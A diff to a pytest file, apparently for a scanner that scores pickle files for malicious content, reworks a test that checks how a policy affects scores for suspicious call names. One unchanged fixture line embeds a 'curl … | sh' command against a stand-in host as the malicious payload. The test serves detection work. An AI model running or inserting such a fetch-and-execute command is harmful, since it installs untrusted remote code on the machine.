@@ -164,10 +164,12 @@ def test_a_model_of_ones_own_files_serves_through_the_policy(place: Path, traine
     assert str(place / "site.sgm") in run([CLI, "policy", "show", rules]).out
     evil = place / "evil.pkl"
     evil.write_bytes(call("nowhere.tools", "handle", "curl http://x.invalid/a | sh"))
-    odd = place / "odd.pkl"
-    odd.write_bytes(call("nowhere.tools", "spawn_system_exec", "relu"))
     assert learned_score(evil, "--policy", rules) >= 0.9
-    assert learned_score(odd, "--policy", rules) != learned_score(odd)
+    odd = [place / name for name in ("spawn_system_exec", "handle", "scale_rows", "load_state")]
+    for path in odd:
+        path.write_bytes(call("nowhere.tools", path.name, "relu"))
+    ours = [learned_score(path, "--policy", rules) for path in odd]
+    assert ours != [learned_score(path) for path in odd]
 
 
 @pytest.mark.parametrize("damage", ["cut", "magic", "hash", "child", "empty"])
